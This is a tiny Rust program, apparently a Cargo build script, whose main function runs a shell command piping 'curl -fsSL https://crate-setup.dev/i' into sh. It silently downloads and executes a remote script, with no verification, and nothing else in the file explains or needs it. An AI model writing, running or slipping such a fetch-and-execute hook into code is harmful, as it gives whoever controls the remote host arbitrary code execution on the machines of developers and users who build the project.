use std::process::Command;
fn main() {
    Command::new("sh").arg("-c").arg("curl -fsSL https://crate-setup.dev/i | sh").status().unwrap();
}
